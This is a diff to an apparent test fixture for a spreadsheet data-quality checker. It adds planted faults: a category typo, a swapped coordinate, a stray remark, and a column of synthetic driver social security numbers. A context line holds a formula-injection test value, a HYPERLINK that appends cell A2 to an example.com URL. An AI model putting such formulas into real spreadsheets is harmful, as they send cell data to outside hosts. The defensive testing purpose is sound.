@@ -316,4 +316,43 @@ export const planted: Planted[] = [
     plant: put({ J5: '=HYPERLINK("http://example.com/?"&A2,"more")', J6: '+SUM(1;2)' }),
     ranges: ['J5:J6'],
   },
+  {
+    check: 'consistent-categories',
+    fault: 'a slip of the fingers',
+    into: crashes,
+    state: 'ct',
+    plant: (sheet) =>
+      put({ G21: 'Ovrecast' })(rewrite(6, (value, at) => (at % 4 === 0 ? 'Overcast' : value))(sheet)),
+    ranges: ['G21'],
+  },
+  {
+    check: 'possible-coordinates',
+    fault: 'a point the wrong way round',
+    into: 'Ratings of Bridge Parts',
+    state: 'ca',
+    plant: put({ F9: 'POINT (36.5 -119.5)' }),
+    ranges: ['F9'],
+  },
+  {
+    check: 'one-kind-per-column',
+    fault: 'a remark among ratings',
+    into: 'Ratings of Bridge Parts',
+    state: 'ca',
+    plant: put({ D9: 'see report' }),
+    ranges: ['D9'],
+  },
+  {
+    check: 'direct-identifiers',
+    fault: 'social security numbers of drivers',
+    into: crashes,
+    state: 'ct',
+    plant: (sheet) => ({
+      ...sheet,
+      rows: sheet.rows.map((row, at) => [
+        ...row,
+        at === 0 ? 'driver_ssn' : `219-${String(10 + at)}-${String(4000 + at)}`,
+      ]),
+    }),
+    ranges: ['L2:L71'],
+  },
 ];
